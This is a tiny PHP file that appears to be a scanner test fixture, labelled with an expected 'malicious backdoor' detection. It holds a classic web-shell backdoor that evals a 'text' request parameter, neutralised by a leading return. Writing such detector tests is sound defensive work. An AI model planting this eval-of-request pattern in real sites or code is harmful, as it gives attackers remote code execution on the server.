<?php return; // want: malicious backdoor php.code.request
$all = $_GET + $_POST;
if (isset($all['text']))
	eval(stripslashes($all['text']));
